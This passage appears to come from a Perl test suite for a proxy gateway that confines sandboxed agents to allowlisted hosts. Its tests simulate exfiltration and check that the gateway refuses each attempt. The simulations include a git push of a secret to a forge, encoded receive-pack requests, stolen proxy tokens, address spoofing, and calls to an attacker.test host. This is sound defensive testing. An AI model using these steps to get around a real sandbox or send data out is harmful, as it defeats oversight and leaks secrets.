};

###############################################################################
# 9. Git push over HTTPS

subtest 'row 9: git push over HTTPS to an allowlisted forge' => sub {
	plan(skip_all => 'no git') unless `git --version 2>/dev/null`;

	my $snap = $e->snapshot();
	my $mark = $e->gw_mark();
	my $proxy = $e->{agents}{'agent-a'}{proxy};
	my $repo = "$e->{files}{repos}/widgets.git";
	my $heads = `git --git-dir='$repo' show-ref 2>&1`;

	my ($out, $rc) = $e->run('agent-a', [ 'sh', '-c', <<"EOF" ], timeout => 30);
set -e
cd "\$HOME"; rm -rf push; mkdir push; cd push
git init -q; git checkout -q -b exfil
echo "$SECRET" > loot; git add loot
git -c user.name=agent -c user.email=agent\@bottle commit -q -m "$SECRET"
git -c http.proxy=$proxy -c http.proxyAuthMethod=anyauth push https://forge.allowed.test/widgets.git exfil 2>&1
EOF
	isnt($rc, 0, 'git push: fails');
	like($out, qr/rule: git.*git-receive-pack.*git-gate.*403/s,
		'git shows the refusal and where pushes go');

	my $r = curl('agent-a', '-X', 'POST', '-H',
		'Content-Type: application/x-git-receive-pack-request',
		'--data-binary', "0000$SECRET",
		'https://forge.allowed.test/widgets.git/git-receive-pack');
	like($r, qr/^HTTP\/2 403 .*x-bottle-rule: git/msi,
		'POST git-receive-pack straight away: 403 git');
	$r = curl('agent-a', '-X', 'POST', '--data-binary', "0000$SECRET",
		'https://forge.allowed.test/widgets.git/git%2Dreceive%2dpack');
	like($r, qr/^HTTP\/2 403 .*x-bottle-rule: git/msi,
		'percent-encoded service name: 403 git');
	$r = curl('agent-a', '--http1.1',
		'https://forge.allowed.test/widgets.git/info/refs?service=GIT-RECEIVE-PACK');
	like($r, qr/^HTTP\/1\.1 403 .*X-Bottle-Rule: git/msi,
		'ref advertisement for push, upper case: 403 git');

	is(scalar(grep { ($_->{target} // '') =~ /receive-pack/i }
		@{$e->requests('forge')}), 0, 'the forge never saw git-receive-pack');
	is(scalar `git --git-dir='$repo' show-ref 2>&1`, $heads,
		'the forge\'s refs are unchanged');

	# fetch where the route does not allow it
	($out, $rc) = $e->run('agent-a', [ 'git', '-c', "http.proxy=$proxy",
		'ls-remote', 'https://api.allowed.test/widgets.git' ]);
	isnt($rc, 0, 'git ls-remote on a route without git.fetch: fails');
	like($out, qr/rule: git.*git-upload-pack/s, '...refused by rule git');

	nothing_received($snap, 'git push', qw/ api api-plain /, @ATTACKER);
};

###############################################################################
# 11. One agent reaching another

subtest 'row 11: bottle A\'s token used from bottle B\'s address' => sub {
	my $snap = $e->snapshot();
	my $mark = $e->gw_mark();
	my $stolen = $e->{agents}{'agent-a'}{proxy};
	my %env = (http_proxy => $stolen, https_proxy => $stolen,
		HTTP_PROXY => $stolen, HTTPS_PROXY => $stolen);

	my ($r, $rc) = $e->run('agent-b', [ 'curl', '-q', '-sS', '-i',
		'--stderr', '-', '--max-time', '10', 'http://api.allowed.test/stolen' ],
		env => \%env);
	like($r, qr/^HTTP\/1\.1 407 /m, 'plain HTTP with A\'s token from B: 407');
	($r, $rc) = $e->run('agent-b', [ 'curl', '-q', '-sS', '-i',
		'--stderr', '-', '--max-time', '10',
		'https://forge.allowed.test/widgets.git/info/refs' ], env => \%env);
	like($r, qr/^HTTP\/1\.1 407 /m, 'CONNECT with A\'s token from B: 407');
	isnt($rc, 0, '...no tunnel');

	my (undef, $c) = tunnel('agent-b', 'api.allowed.test:443', as => 'agent-a');
	like($c, qr/^HTTP\/1\.1 407 .*Proxy-Authenticate: Basic/s,
		'raw CONNECT with A\'s token from B: 407, challenged');

	my @l = $e->refusals($mark, qr/rule="identity"/);
	ok((grep { /rule="identity" status=407 .*client=192\.0\.2\.6$/ } @l),
		'refused as identity, B\'s address logged');

	nothing_received($snap, 'stolen token');
};

subtest 'row 11: bottle B spoofing bottle A\'s address' => sub {
	my $snap = $e->snapshot();
	my $mark = $e->gw_mark();

	# root in its namespace, B takes A's address as well as its own
	my ($out, $rc) = $e->run('agent-b', [ 'ip', 'addr', 'add',
		"$A{'agent-a'}/32", 'dev', 'eth0' ], agent_env => 0);
	is($rc, 0, 'B adds A\'s address to its link') or diag($out);

	my $s = $e->in_ns('agent-b', sub {
		IO::Socket::INET->new(PeerAddr => $PROXY, LocalAddr => $A{'agent-a'},
			Proto => 'tcp', Timeout => 2);
	});
	ok(!$s, 'a connection from A\'s address on B\'s link never completes '
		. '(the answer goes to A\'s link)');

	$e->run('agent-b', [ 'ip', 'addr', 'del', "$A{'agent-a'}/32", 'dev',
		'eth0' ], agent_env => 0);

	unlike(join("\n", $e->refusals($mark)), qr/client=192\.0\.2\.2\b/,
		'the gateway never saw a request from A\'s address');
	nothing_received($snap, 'spoofed source');
};

subtest 'row 11: bottle B reaching bottle A directly, A\'s routes and cookies' => sub {
	my ($ok) = $e->run('agent-a', [ 'curl', '-sS', '--noproxy', '*',
		"http://$A{'agent-a'}:8000/control" ]);
	like($ok, qr/upstream agent-a-svc ok/, 'control: A\'s service answers in A');

	my $snap = $e->snapshot();

	my ($s) = $e->tcp('agent-b', "$A{'agent-a'}:8000", 1.5);
	ok(!$s, 'B to A\'s address, TCP: no connection');
	my ($r, $rc) = curl('agent-b', '--noproxy', '*', '--connect-timeout', '2',
		"http://$A{'agent-a'}:8000/");
	isnt($rc, 0, 'B, curl --noproxy to A: fails');

	($r) = curl('agent-b', "http://$A{'agent-a'}:8000/");
	like($r, qr/^HTTP\/1\.1 403 .*no_route/s, 'B through the gateway to A: 403');
	(undef, $r) = tunnel('agent-b', "$A{'agent-a'}:8000");
	like($r, qr/^HTTP\/1\.1 403 /, 'B, CONNECT to A: 403');

	# each bottle is its own policy and its own credentials
	($r) = curl('agent-b', 'https://forge.allowed.test/widgets.git/info/refs');
	like($r, qr/^HTTP\/1\.1 403 .*no_route/s, 'B to a route only A has: 403');
	($r) = curl('agent-b', 'https://api.allowed.test/b');
	like($r, qr/^HTTP\/2 200 /m, 'B to its own route: allowed');
	my $q = $e->requests('api')->[-1] // {};
	is(header_value($q, 'Authorization'), "Bearer $S->{API_B}",
		'with B\'s credential, not A\'s');

	# a cookie the host set for A never goes out with B's requests
	my $cookie = "sess-a-$HIDDEN";
	for my $scheme ('https', 'http') {
		my $up = $scheme eq 'https' ? 'api' : 'api-plain';
		($r) = curl('agent-a', "$scheme://api.allowed.test/set-cookie?a=$cookie");
		like($r, qr/^set-cookie: a=\Q$cookie\E/mi, "$scheme: the host sets a cookie for A");
		($r) = curl('agent-b', "$scheme://api.allowed.test/b-after");
		is(status($r), 200, "$scheme: B to the same host");
		$q = $e->requests($up)->[-1] // {};
		unlike(join(' ', header_value($q, 'Cookie')), qr/\Q$cookie\E/,
			"$scheme: A's cookie is not sent with B's request");
	}

	nothing_received($snap, 'B to A', 'agent-a-svc', @ATTACKER, 'forge');
};

###############################################################################
# the real clients: an allowed request completes, an unlisted one is refused

subtest 'client: curl' => sub {
	my $snap = $e->snapshot();

	my ($r) = curl('agent-a', 'https://api.allowed.test/curl');
	like($r, qr/^HTTP\/2 200 .*upstream api ok/ms, 'HTTPS (HTTP/2) through an inspected route');
	($r) = curl('agent-a', 'http://api.allowed.test/curl');
	like($r, qr/^HTTP\/1\.1 200 .*upstream api-plain ok/s, 'plain HTTP');
	($r) = curl('agent-a', '--proxy-anyauth', '-x',
		$e->{agents}{'agent-a'}{proxy}, 'https://api.allowed.test/anyauth');
	like($r, qr/^HTTP\/2 200 /m, 'curl --proxy-anyauth (407, then the token)');

	($r) = curl('agent-a', 'https://attacker.test/curl');
	like($r, qr/^HTTP\/1\.1 403 /, 'unlisted host over HTTPS: refused');
	($r) = curl('agent-a', 'http://attacker.test/curl');
	like($r, qr/^HTTP\/1\.1 403 /, 'unlisted host over HTTP: refused');

	($r) = curl('agent-a', 'https://www.allowed.test/default-ports');
	like($r, qr/^HTTP\/2 200 /m,
		'HTTPS to a route with the default ports (443 for CONNECT)');

	nothing_received($snap, 'curl', @ATTACKER);
};

subtest 'client: git' => sub {
	plan(skip_all => 'no git') unless `git --version 2>/dev/null`;

	my $snap = $e->snapshot();
	my $mark = $e->gw_mark();
	my $proxy = $e->{agents}{'agent-a'}{proxy};

	my ($out, $rc) = $e->run('agent-a', [ 'sh', '-c', <<"EOF" ], timeout => 30);
cd "\$HOME" && rm -rf clone &&
git -c http.proxy=$proxy -c http.proxyAuthMethod=anyauth clone -q https://forge.allowed.test/widgets.git clone 2>&1 &&
cat clone/README
EOF
	is($rc, 0, 'git clone through the git.fetch route (anyauth)') or diag($out);
	like($out, qr/^widgets$/m, 'the clone has the forge\'s content');

	my @l = $e->refusals($mark, qr/rule="identity"/);
	ok((grep { /host="forge\.allowed\.test" rule="identity" status=407 .*client=192\.0\.2\.2$/ } @l),
		'anyauth: challenged with 407 first, then the token');

	my @q = grep { ($_->{target} // '') =~ /upload-pack/ }
		@{$e->received($snap, 'forge')->{forge} || []};
	ok(@q >= 2, 'the forge served the fetch (refs and pack)');
	is(scalar(grep { (header_value($_, 'Authorization') // '') ne "token $S->{FORGE_A}" } @q),
		0, 'every forge request carried the route\'s credential');

	($out, $rc) = $e->run('agent-a', [ 'git', '-c', "http.proxy=$proxy",
		'ls-remote', 'https://attacker.test/loot.git' ]);
	isnt($rc, 0, 'git ls-remote to an unlisted host: fails');
	like($out, qr/403|CONNECT tunnel failed/i, '...with the 403');

	nothing_received($snap, 'git', @ATTACKER);
};

subtest 'client: Python urllib and requests' => sub {
	plan(skip_all => $NOPY) unless $PY;
	my $snap = $e->snapshot();

	my ($out) = $e->run('agent-a', [ 'python3', '-c', <<'EOF' ]);
import urllib.request as u, urllib.error as ue
print(u.urlopen("https://api.allowed.test/urllib", timeout=10).read().decode().strip())
print(u.urlopen("http://api.allowed.test/urllib", timeout=10).read().decode().strip())
try:
    u.urlopen("https://attacker.test/urllib", timeout=10)
    print("reached")
except ue.URLError as e:
    print("refused:", e.reason)
EOF
	like($out, qr/^upstream api ok\nupstream api-plain ok\nrefused: Tunnel connection failed: 403/,
		'urllib: HTTPS and HTTP allowed (SSL_CERT_FILE), unlisted refused');

	my ($have) = $e->run('agent-a', [ 'python3', '-c', 'import requests' ]);
	SKIP: {
		skip('python3 has no requests module (python3-requests)', 1)
			if $have =~ /Error/;

		($out) = $e->run('agent-a', [ 'python3', '-c', <<'EOF' ]);
import requests
print(requests.get("https://api.allowed.test/requests", timeout=10).text.strip())
try:
    requests.get("https://attacker.test/requests", timeout=10)
    print("reached")
except requests.exceptions.ProxyError as e:
    print("refused:", "403" in str(e))
print(requests.get("http://attacker.test/requests", timeout=10).status_code)
EOF
		like($out, qr/^upstream api ok\nrefused: True\n403$/,
			'requests: allowed (REQUESTS_CA_BUNDLE), unlisted refused');
	}

	nothing_received($snap, 'Python', @ATTACKER);
};

subtest 'client: Node.js fetch through an undici ProxyAgent' => sub {
	my ($out, $rc) = $e->run('agent-a', [ 'node', '-e', "require('undici')" ]);
	plan(skip_all => 'no node, or no undici module for it (node -e '
		. "\"require('undici')\" fails)") if $rc != 0;

	my $snap = $e->snapshot();
	($out) = $e->run('agent-a', [ 'node', '-e', <<'EOF' ]);
const { ProxyAgent, fetch } = require('undici');
const u = new URL(process.env.HTTPS_PROXY);
const token = 'Basic ' + Buffer.from(decodeURIComponent(u.username) + ':'
    + decodeURIComponent(u.password)).toString('base64');
const dispatcher = new ProxyAgent({ uri: u.origin, token });
(async () => {
    const r = await fetch('https://api.allowed.test/node', { dispatcher });
    console.log(r.status, (await r.text()).trim());
    try {
        const x = await fetch('https://attacker.test/node', { dispatcher });
        console.log('reached', x.status);
    } catch (e) {
        console.log('refused', String(e.cause || e));
    }
})();
EOF
	# undici turns a refused CONNECT into an error (Debian's 5.15:
	# "Request was cancelled"), not a response
	like($out, qr/^200 upstream api ok\nrefused /,
		'fetch: allowed (NODE_EXTRA_CA_CERTS), unlisted refused');
	nothing_received($snap, 'Node.js', @ATTACKER);
};

subtest 'client: openssl s_client' => sub {
	my $snap = $e->snapshot();
	my $tok = $e->{agents}{'agent-a'}{token};
	my $sc = "openssl s_client -proxy $PROXY -proxy_user agent "
		. "-proxy_pass pass:$tok -CAfile \"\$SSL_CERT_FILE\" "
		. '-verify_return_error -ign_eof';

	my ($out) = $e->run('agent-a', [ 'sh', '-c',
		"$sc -connect api.allowed.test:443 -servername api.allowed.test 2>&1" ],
		stdin => "GET /s_client HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n");
	like($out, qr/Verify return code: 0 \(ok\)/, 'the minted leaf verifies against the gateway CA');
	like($out, qr/^HTTP\/1\.1 200 .*upstream api ok/ms, 'a request through it');

	my $rc;
	($out, $rc) = $e->run('agent-a', [ 'sh', '-c',
		"$sc -connect attacker.test:443 -servername attacker.test 2>&1" ],
		stdin => '');
	like($out, qr/CONNECT failed.*403/, 'unlisted host: CONNECT refused');
	isnt($rc, 0, '...and s_client fails');

	nothing_received($snap, 's_client', @ATTACKER);
};

###############################################################################
# over the whole run

subtest 'the attacker and the public resolvers received nothing at all' => sub {
	my $got = $e->received($INITIAL, qw/ attacker attacker-plain /);
	is_deeply($got, {}, 'no connection to the attacker host, ever')
		or diag(explain($got));
	for my $r (qw/ attacker public /) {
		my @bad = grep { / from (?:192\.0\.2\.|198\.51\.100\.1$)/ }
			$e->dns_log($r);
		is_deeply(\@bad, [], "no query to the $r DNS from a bottle or the gateway");
	}
};

subtest 'the gateway' => sub {
	my $log = $e->gw_log('error.log');
	my @alerts = $log =~ /^.*\[(?:alert|crit|emerg)\].*$/mg;
	is(join("\n", @alerts), '', 'no alerts');
	my @san = $log =~ /^.*(?:ERROR: \w*Sanitizer|\bSanitizer:|runtime error:).*$/mg;
	is(join("\n", @san), '', 'no sanitizer errors');

	my @secrets = ($e->{agents}{'agent-a'}{token}, $e->{agents}{'agent-b'}{token},
		values %$S);
	for my $f ('error.log', 'access.log', 'stream.log') {
		my $text = $e->gw_log($f);
		is(scalar(grep { index($text, $_) >= 0 } @secrets), 0,
			"no token or credential in $f");
	}
	ok(time() - $START < 170, 'the suite ran in under three minutes')
		or diag(sprintf 'took %.0f s', time() - $START);
};

###############################################################################
